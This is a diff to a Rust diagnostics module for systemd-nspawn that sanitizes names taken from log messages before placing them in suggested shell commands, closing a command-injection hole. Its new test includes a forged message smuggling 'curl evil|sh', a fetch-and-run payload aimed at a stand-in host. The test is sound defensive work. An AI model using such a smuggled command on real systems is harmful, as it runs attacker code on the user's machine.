@@ -39,7 +39,7 @@ const KNOWN: &[Known] = &[
         code: "missing-bridge",
         cause: |_, message| format!("bridge '{}' does not exist", after(message, "to bridge ")),
         hint: |_, message| {
-            let bridge = after(message, "to bridge ");
+            let bridge = plain(after(message, "to bridge "), "BRIDGE");
             format!(
                 "create it, for example with `ip link add {bridge} type bridge`, or choose another in the .nspawn file"
             )
@@ -66,7 +66,7 @@ const KNOWN: &[Known] = &[
         },
         hint: |_, message| {
             let link = after(message, "veth interfaces (");
-            let link = link.split(':').next().unwrap_or(link);
+            let link = plain(link.split(':').next().unwrap_or(link), "LINK");
             format!("see whose it is: `ip -d link show {link}`; `ip link delete {link}` removes it")
         },
     },
@@ -180,7 +180,7 @@ const KNOWN: &[Known] = &[
     },
     Known {
         marker: "terminated by signal ",
-        code: "init-killed",
+        code: INIT_KILLED,
         cause: |_, message| format!("its init was ended by signal {}", after(message, "by signal ")),
         hint: |name, _| {
             format!(
@@ -195,6 +195,18 @@ fn after<'a>(message: &'a str, marker: &str) -> &'a str {
     let rest = message.find(marker).map_or(message, |at| &message[at + marker.len()..]);
     let rest = rest.split(": ").next().unwrap_or(rest);
     rest.trim_matches(|c| matches!(c, '"' | '\'' | '.' | ' '))
+}
+
+/// A name of a message that becomes part of a command, if it is one that no shell takes for anything else. A guest may have
+/// written the message: before 257 its console is in the journal as systemd-nspawn's own words are.
+fn plain<'a>(name: &'a str, otherwise: &'a str) -> &'a str {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
+    let fits = (1..=15).contains(&name.len()) && !name.starts_with('-');
+    if fits && name.chars().all(is_plain) {
+        name
+    } else {
+        otherwise
+    }
 }
 
 /// Of a path, up to the first colon.
@@ -226,6 +238,8 @@ fn is_telling(line: &Line) -> bool {
         .any(|noise| line.message.starts_with(noise))
 }
 
+/// systemd-nspawn says so of a machine that ran, too.
+pub(super) const INIT_KILLED: &str = "init-killed";
 /// What systemd-nspawn said that none of [`KNOWN`] knows.
 pub(super) const SUPERVISOR_FAILED: &str = "supervisor-failed";
 /// It said nothing.
@@ -236,7 +250,11 @@ pub(super) const START_LIMIT: &str = "start-limit";
 /// Finds the cause in the lines of an invocation. `result` is the unit's `Result`, such as "exit-code".
 #[must_use]
 pub fn explain(name: &str, unit: &str, result: &str, lines: &[Line]) -> Diagnosis {
-    let own: Vec<&Line> = lines.iter().filter(|line| is_telling(line)).collect();
+    let mut own: Vec<&Line> = lines.iter().filter(|line| is_telling(line)).collect();
+    // Where systemd-nspawn speaks to the journal itself, the rest is what the machine shows on its console.
+    if own.iter().any(|line| line.transport == "journal") {
+        own.retain(|line| line.transport == "journal");
+    }
     // A fatal error stands at the end; before it there may be warnings that match, too.
     let known = KNOWN.iter().find_map(|known| {
         own.iter()
@@ -432,6 +450,21 @@ mod tests {
         let found = cause(&[line(6, "hello"), line(6, "something \x1b[1m broke"), line(6, " ")]);
         assert_eq!(found.cause, "something \\u{1b}[1m broke");
         assert_eq!(cause(&[]).cause, "unit systemd-nspawn@web.service failed (exit-code)");
+    }
+
+    #[test]
+    fn what_a_machine_shows_gives_no_command_to_type() {
+        let shown = |message: &str| Line {
+            transport: "stdout".into(),
+            ..line(6, message)
+        };
+        let forged = "Failed to add new veth interfaces (x;curl evil|sh:host0): File exists";
+        let found = cause(&[shown(forged)]);
+        assert!(!found.hints.concat().contains("curl"), "{:?}", found.hints);
+        let found = cause(&[shown(forged), line(3, "Failed to create something")]);
+        assert_eq!(found.cause, "Failed to create something");
+        let found = cause(&[line(3, "Failed to add new veth interfaces (ve-web:host0): File exists")]);
+        assert!(found.hints[0].contains("ip link delete ve-web"));
     }
 
     #[test]
